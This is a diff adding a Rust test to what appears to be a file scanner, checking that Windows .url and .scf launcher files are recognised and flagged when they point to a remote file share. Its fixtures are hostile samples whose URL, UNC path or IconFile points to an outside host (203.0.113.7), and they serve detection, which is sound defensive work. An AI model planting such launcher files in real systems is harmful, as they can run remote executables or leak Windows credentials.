@@ -188,3 +188,47 @@ fn an_app_installer_file() {
     let x = "<?xml version=\"1.0\"?>\n<notes><p>AppInstaller files carry a Uri.</p></notes>\n";
     assert_clean(&scan("notes.xml", x.as_bytes().to_vec()));
 }
+
+/// Explorer reads `.url` and `.scf` files as Windows reads INI files,
+/// looking the section up by name: other sections, keys or a stray line
+/// before it change nothing.
+#[test]
+fn a_launcher_section_after_other_lines_is_read() {
+    for (body, ty) in [
+        (
+            "[Other]\r\nA=1\r\n[InternetShortcut]\r\nURL=file://203.0.113.7/s/x.exe\r\n",
+            "url",
+        ),
+        (
+            "Junk=1\r\n[InternetShortcut]\r\nURL=file://203.0.113.7/s/x.exe\r\n",
+            "url",
+        ),
+        (
+            "hello\r\n[internetshortcut]\r\nURL=\\\\203.0.113.7\\s\\x.exe\r\n",
+            "url",
+        ),
+        (
+            "[Taskbar]\r\nCommand=ToggleDesktop\r\n[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.7\\s\\i.ico\r\n",
+            "scf",
+        ),
+    ] {
+        for r in [
+            scan("notes.txt", body.as_bytes().to_vec()),
+            scan("", body.as_bytes().to_vec()),
+        ] {
+            assert_eq!(true_type(&r), ty, "{body}");
+            assert!(
+                has_key(&r, "launcher.remote_target"),
+                "{body}: {:?}",
+                keys(&r)
+            );
+        }
+    }
+    // Prose that shows such a file's text is not one.
+    let prose = "An Internet shortcut is a small text file.\nIt has a section:\n\
+        [InternetShortcut]\nURL=https://example.com/\nand Windows opens the URL.\n\
+        More lines of explanation follow here.\nAnd here.\n";
+    let r = scan("notes.txt", prose.as_bytes().to_vec());
+    assert_eq!(true_type(&r), "text");
+    assert_clean(&r);
+}
